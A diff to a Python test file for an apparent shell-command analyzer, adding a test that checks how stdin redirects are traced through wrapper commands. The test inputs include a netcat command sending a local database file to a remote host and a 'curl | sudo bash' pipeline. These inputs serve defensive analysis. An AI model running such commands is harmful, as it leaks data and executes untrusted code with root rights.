@@ -88,6 +88,13 @@ def test_redirect_targets_and_heredoc_contents_are_file_ops() -> None:
     assert any(f.contents == "* * * * * root id" for f in a.files)
 
 
+def test_input_redirect_is_the_commands_stdin_path_through_wrappers() -> None:
+    a = analyze('F=out.db; timeout 5 nc 198.51.100.7 9000 < "$F"; sort < list.txt > sorted.txt; grep x')
+    fed = {c.name: c.stdin_path for c in a.commands}
+    assert fed == {"timeout": "out.db", "nc": "out.db", "sort": "list.txt", "grep": None}
+    assert not any(f.path == "list.txt" for f in a.files)  # read, not changed: no file op
+
+
 def test_pipelines_and_sources() -> None:
     a = analyze("curl -s http://x | sudo bash")
     assert ("curl", "sudo") in a.pipelines
